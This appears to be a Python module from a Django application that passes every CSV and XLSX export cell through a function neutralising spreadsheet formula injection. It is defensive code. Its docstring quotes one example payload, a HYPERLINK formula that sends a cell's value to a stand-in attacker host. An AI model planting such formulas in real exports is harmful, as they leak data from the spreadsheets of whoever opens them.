"""Spreadsheet exports: every CSV (or XLSX) cell Ura writes goes through here (decision 63).

A cell that starts with `=`, `+`, `-` or `@` is a formula to Excel, LibreOffice and Google Sheets,
and a tab or a carriage return at the start lets one hide behind whitespace: a break-the-glass
reason typed as `=HYPERLINK("https://evil.example/?"&A1, "open")` would run in the data protection
officer's spreadsheet. Such a cell is written with a leading apostrophe, which the spreadsheet shows
as text and never evaluates. The meta-test (`tests/test_exports.py`) refuses a module of ours that
imports a CSV or spreadsheet writer other than this one, so a new export cannot go round it.
"""

import csv
import io
from collections.abc import Iterable, Iterator
from typing import Any

from django.http import HttpResponse, StreamingHttpResponse
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from rest_framework.renderers import BaseRenderer

__all__ = [
    "CSV_TYPE",
    "FORMULA_STARTS",
    "XLSX_TYPE",
    "CsvRenderer",
    "FileAnswers",
    "FileRenderer",
    "XlsxRenderer",
    "csv_bytes",
    "csv_lines",
    "csv_response",
    "file_response",
    "neutralise",
    "spreadsheet",
    "xlsx_bytes",
]

CSV_TYPE = "text/csv; charset=utf-8"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> str:
    """`value` as the text of one cell, never a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class _Echo:
    """A file that hands back what is written to it: the CSV writer then yields lines to stream."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header: Iterable[str], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    writer = csv.writer(_Echo())
    yield writer.writerow([neutralise(cell) for cell in header])
    for row in rows:
        yield writer.writerow([neutralise(cell) for cell in row])


def csv_response(filename: str, header: Iterable[str], rows: Iterable[Iterable[Any]]) -> StreamingHttpResponse:
    """A streamed CSV download of `rows` under `header`, every cell neutralised."""
    response = StreamingHttpResponse(csv_lines(header, rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def csv_bytes(rows: Iterable[Iterable[Any]]) -> bytes:
    """A whole CSV file of `rows` (the first is written like any other), UTF-8 with a byte-order
    mark so that Excel reads ë and ç as they are; every cell neutralised."""
    out = io.StringIO()
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([neutralise(cell) for cell in row])
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def xlsx_bytes(rows: Iterable[Iterable[Any]], *, title: str = "Ura") -> bytes:
    """An XLSX workbook of `rows` on one sheet: every cell is written as text (never a formula or
    a number the spreadsheet would reinterpret), neutralised as in a CSV."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet(title=title[:31] or "Ura")
    for row in rows:
        cells = []
        for value in row:
            # Control characters a workbook cannot hold (typed in a filter, pasted in a name) are left out.
            cell = WriteOnlyCell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("", neutralise(value)))
            cell.data_type = "s"  # text, whatever it looks like
            cells.append(cell)
        sheet.append(cells)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def spreadsheet(fmt: str, rows: Iterable[Iterable[Any]], *, title: str = "Ura") -> tuple[bytes, str, str]:
    """`rows` as a file of `fmt` ("csv" or "xlsx"): its bytes, content type and file extension."""
    if fmt == "xlsx":
        return xlsx_bytes(rows, title=title), XLSX_TYPE, "xlsx"
    return csv_bytes(rows), CSV_TYPE, "csv"


def file_response(content: bytes, content_type: str, filename: str) -> HttpResponse:
    """A download of a file made whole (spreadsheet or PDF)."""
    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


class FileRenderer(BaseRenderer):
    """Lets the API answer `?format=csv` or `?format=xlsx` (content negotiation); the views return
    the file itself as their response, so nothing is rendered here but a file's bytes."""

    charset = None
    render_style = "binary"

    def render(self, data: Any, accepted_media_type: str | None = None, renderer_context: Any = None) -> Any:
        return data


class FileAnswers:
    """For an API view that answers with a file: anything else it answers (an error, a job) is
    JSON, whatever format the file was asked in."""

    request: Any

    def answer_in_json(self) -> None:
        from rest_framework.renderers import JSONRenderer

        self.request.accepted_renderer, self.request.accepted_media_type = JSONRenderer(), "application/json"

    def handle_exception(self, exc: Exception) -> Any:
        if isinstance(getattr(self.request, "accepted_renderer", None), FileRenderer):
            self.answer_in_json()
        return super().handle_exception(exc)  # type: ignore[misc]


class CsvRenderer(FileRenderer):
    media_type = "text/csv"
    format = "csv"


class XlsxRenderer(FileRenderer):
    media_type = XLSX_TYPE
    format = "xlsx"
